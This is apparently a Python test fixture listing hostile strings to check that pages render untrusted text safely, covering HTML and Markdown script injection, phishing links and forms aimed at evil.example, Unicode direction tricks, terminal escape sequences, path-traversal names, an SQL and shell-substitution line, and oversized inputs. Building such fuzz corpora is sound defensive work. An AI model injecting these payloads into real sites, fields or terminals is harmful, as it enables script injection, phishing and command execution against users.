"""A corpus of 200 texts that break careless pages: markup, Markdown, directions, terminals, emoji, sizes."""

LONG = 1 << 20
"""The length of a line of a mebibyte."""

MARKUP = (
    "<script>document.title='hacked'</script>",
    "<img src=x onerror=\"document.title='hacked'\">",
    "<svg onload=\"document.title='hacked'\"></svg>",
    "<svg><script href=data:,document.title='hacked'></script></svg>",
    "<iframe src=javascript:parent.document.title='hacked'></iframe>",
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    "<a href=javascript:document.title='hacked'>click</a>",
    '"><script>document.title="hacked"</script>',
    "'><img src=x onerror=document.title='hacked'>",
    "</pre></div></section></main><h1>Another page</h1>",
    "</textarea></title></style></script><script>document.title=1</script>",
    "<style>* { display: none !important }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0; url=https://evil.example/">',
    "<base href=https://evil.example/>",
    '<form action=https://evil.example/><input name=password autofocus onfocus="document.title=1"></form>',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<video src=https://evil.example/v autoplay onerror=document.title=1></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=document.title=1></style></mglyph></math>",
    "<details open ontoggle=document.title=1>x</details>",
    "<dialog open>Your session has ended. <input type=password></dialog>",
    "<p id=page>a second main</p><p id=console>a second root</p>",
    "<![CDATA[<script>document.title=1</script>]]><!-- --><!DOCTYPE html>",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &nbsp;&shy;&zwnj;",
    "{{constructor.constructor('document.title=1')()}} ${document.title=1} <%= 7*7 %> #{7*7}",
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"x": 1}}}',
    "__proto__",
    "constructor",
    "toString",
    "' OR 1=1 --; DROP TABLE runs; $(touch /tmp/x) `touch /tmp/x`",
)

MARKDOWN = (
    "[click](javascript:document.title='hacked')",
    "[click](JaVaScRiPt:document.title=1)",
    "[click](java\tscript:document.title=1)",
    "[click](data:text/html,<script>parent.document.title=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](//evil.example/x)",
    "![](https://evil.example/pixel.png)",
    "![x](x)![y](https://evil.example/a.png \"onerror='document.title=1'\")",
    "[bank.example](https://evil.example/login)",
    "[https://bank.example](https://evil.example/login)",
    "[x](https://bank.example@evil.example/) https://bank.example@evil.example/",
    "<https://evil.example/> https://xn--80ak6aa92e.example/ https://аррӏе.example/",
    '[a](https://evil.example/" onmouseover="document.title=1)',
    "[![nested](https://evil.example/i.png)](https://evil.example/)",
    "```html\n<script>document.title=1</script>\n```",
    "```\nnever closed <script>document.title=1</script>",
    "`<script>document.title=1</script>`",
    "# <img src=x onerror=document.title=1>",
    "| <b>a</b> | <script>document.title=1</script> |\n|-|-|\n| [x](javascript:1) | ![](https://evil.example/t.png) |",
    "|" * 500 + "\n" + "|-" * 500,
    "> " * 300 + "deep",
    "- " * 300 + "deep",
    "".join("  " * depth + "- level\n" for depth in range(60)),
    "1. " * 200,
    "*" * 20_000,
    "**a" * 5_000,
    "_" * 20_000,
    "`" * 20_000,
    "[" * 20_000,
    "[a](" * 5_000,
    "![" * 9_000,
    "~~" * 9_000,
    "\\" * 20_000,
    "# " * 5_000,
    "#\n" * 5_000,
    "---\n" * 5_000,
    "- x\n" * 5_000,
    "a|b\n-|-\n" * 3_000,
    "https://" * 3_000,
    "x\n\n" * 9_000,
    "*a* **b** `c` " * 1_500,
)

DIRECTIONS = (
    *(f"left {chr(code)}thgir{chr(0x202C)}" for code in (0x202A, 0x202B, 0x202D, 0x202E)),
    *(f"left {chr(code)}thgir{chr(0x2069)}" for code in (0x2066, 0x2067, 0x2068)),
    "invoice\u202egpj.exe",
    "\u202e" * 500 + "text",
    "\u2067" * 500,
    "שלום עולם, hello العالم",
    "مرحبا " * 400,
    "\u200f\u200e\u061c marks",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "access_token \u2066// a comment \u2069if (admin) {",
    "/*\u202e } \u2066if (admin)\u2069 \u2066 begin admins only */",
    "\u115f\u1160\u2800\u3164\uffa0",
    "soft\u00adhyphen no\u00a0break figure\u2007space",
    "\u2028line separator\u2029paragraph separator",
    "а lооks like a",
)

TERMINALS = (
    "\x1b[31mred\x1b[0m \x1b[1mbold\x1b[22m",
    "\x1b[2J\x1b[H\x1b[3Jcleared",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[?1049h\x1b[?25l",
    "\x1b[6n\x1bc\x1b#8",
    "\x9b31mC1 red\x9b0m",
    "progress 1 %\rprogress 2 %\rprogress 3 %",
    "back\b\b\b\bspaces\x7f",
    "bell\x07 form\x0cfeed vertical\x0btab",
    "".join(chr(code) for code in range(1, 32)),
    "".join(chr(code) for code in range(0x7F, 0xA0)),
    "\x1b[38;2;255;0;0mtrue colour\x1b[m" * 200,
    "\x1bP+q544e\x1b\\device control",
    "\x1b_application\x1b\\\x1b^privacy\x1b\\",
    "\x0e shift \x0f",
    "line one\r\nline two\rline three\n\rline four",
    "\t" * 2_000 + "tabs",
    "\x1b",
)

EMOJI = (
    "👩‍👩‍👧‍👦 family, 👩🏽‍🚀 astronaut, 🏳️‍🌈 flag, 🇩🇪🇫🇷 flags",
    "❤️ ☎️ 1️⃣ #️⃣",
    "👍🏻👍🏼👍🏽👍🏾👍🏿",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 a tag sequence",
    "😀" * 5_000,
    "👨‍👩‍👧‍👦" * 2_000,
    "\ufe0f" * 1_000,
    "e" + "\u0301" * 2_000,
    "Z̴̢͈͝ä̵͎́l̶̰̾g̸̡̈́o̷̟͂ " * 100,
    "\U0010ffff\U000e0001\ue000",
    "𝕳𝖊𝖑𝖑𝖔 𝓌𝑜𝓇𝓁𝒹 Ｆｕｌｌ",
    "﷽" * 500,
    "꧅𒐫𒈙⸻",
    "ǅǈﬁﬀŒß İı ſ",
    "日本語のテキスト 中文 한국어 ไทย हिन्दी",
    "ก็็็็็็็็็็็็็็็็็็็็",
    "\u0000\u0000",
    "a\u0000b",
    "👁️‍🗨️🫱🏻‍🫲🏿",
    "🧑‍🤝‍🧑" * 100,
)

SIZES = (
    "x" * LONG,
    "word " * (LONG // 5),
    "line\n" * (LONG // 5),
    "<b>" * (LONG // 3),
    "\u202e" * (LONG // 8),
    "https://evil.example/" + "a" * 50_000,
    "a-" * 25_000,
    " " * 50_000 + "far",
    "\n" * 20_000 + "below",
    "0123456789" * 4_000,
    '{"a":' * 10_000 + "1" + "}" * 10_000,
    "[" * 10_000 + "]" * 10_000,
    "--- a/x\n+++ b/x\n@@ -1,3000 +1,3000 @@\n" + "+<script>document.title=1</script>\n" * 3_000,
    "--- a/" + "d/" * 2_000 + "x\n+++ b/" + "d/" * 2_000 + "x\n@@ -1 +1 @@\n-" + "y" * 100_000 + "\n+z\n",
    'diff --git a/"\\377 b/x\n@@ -999999999,9 +1,9 @@\n+a\n' * 300,
)

EMPTY = ("", " ", "\n", "\t", "null", "undefined", "NaN", "0", "-1", "1e400", "true", "[]", "{}", '""', "''")

NAMES = tuple(
    f"{prefix}{text}"
    for prefix in ("run_", "#/runs/", "../", "%2e%2e%2f")
    for text in ("<b>", "\u202e", "%00", "😀", "a b")
)

NESTED = tuple(f"{text}\n\n{other}" for text, other in zip(MARKUP[:20], MARKDOWN[:20], strict=True))

HOSTILE = (*MARKUP, *MARKDOWN, *DIRECTIONS, *TERMINALS, *EMOJI, *SIZES, *EMPTY, *NAMES, *NESTED)
"""The texts. Add to them; never take one away."""
